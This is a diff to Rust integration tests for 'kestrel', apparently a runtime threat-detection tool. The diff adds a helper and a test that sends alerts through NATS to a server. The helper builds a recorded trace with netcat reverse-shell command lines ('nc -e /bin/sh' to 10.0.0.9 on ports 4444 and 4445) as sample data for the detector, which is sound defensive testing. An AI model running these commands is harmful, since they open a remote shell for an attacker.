@@ -171,14 +171,9 @@ fn a_bad_token_file_is_a_clear_error() {
     assert!(e.contains("tokens.yaml") && e.contains("64 hex digits"), "{e}");
 }
 
-#[test]
-fn detect_sends_its_alerts_to_the_server() {
-    let dir = tempfile::tempdir().unwrap();
-    let data = dir.path().join("data");
-    let server = start(&data, &[]);
-    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
-    // A recording of a container running a reverse shell through nc (what the built-in rules catch).
-    let rec = dir.path().join("attack.jsonl");
+/// A recording of a container running a reverse shell through nc (what the built-in rules catch).
+fn attack_recording(dir: &Path) -> std::path::PathBuf {
+    let rec = dir.join("attack.jsonl");
     let mut lines = vec![serde_json::json!({"schema": "kestrel.trace/v1", "started_ns": 1_000_000_000u64}).to_string()];
     for (i, argv) in
         [["/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444"], ["/bin/nc", "-e", "/bin/bash", "10.0.0.9", "4445"]]
@@ -193,6 +188,16 @@ fn detect_sends_its_alerts_to_the_server() {
         );
     }
     std::fs::write(&rec, lines.join("\n") + "\n").unwrap();
+    rec
+}
+
+#[test]
+fn detect_sends_its_alerts_to_the_server() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let server = start(&data, &[]);
+    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
+    let rec = attack_recording(dir.path());
     let out = Command::cargo_bin("kestrel")
         .unwrap()
         .args([
@@ -221,4 +226,34 @@ fn detect_sends_its_alerts_to_the_server() {
     let stored = page["items"].as_array().unwrap();
     assert_eq!(stored.len(), printed, "every printed alert is on the server");
     assert!(stored.iter().all(|a| a["node"] == "node-7" && a["alert"]["schema"] == "kestrel.alert/v1"));
+}
+
+#[test]
+fn detect_publishes_to_nats_and_the_server_consumes() {
+    let nats = kestrel_testkit::services::Nats::start();
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let server = start(&data, &["--nats", &nats.url()]);
+    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
+    let rec = attack_recording(dir.path());
+    let out = Command::cargo_bin("kestrel")
+        .unwrap()
+        .args(["detect", "-f", "json", "--no-profiles", "--nats", &nats.url(), "--node", "node-8", "--spool"])
+        .arg(dir.path().join("spool"))
+        .arg(&rec)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    let printed = String::from_utf8_lossy(&out.stdout).lines().count();
+    assert!(stderr.contains(&format!("server: {printed} delivered")), "{stderr}");
+    let t = Instant::now();
+    loop {
+        let page = get(&server.base, "/api/v1/alerts?node=node-8", &admin);
+        if page["items"].as_array().unwrap().len() == printed {
+            break;
+        }
+        assert!(t.elapsed() < Duration::from_secs(30), "the server did not store them: {page}");
+        std::thread::sleep(Duration::from_millis(100));
+    }
 }
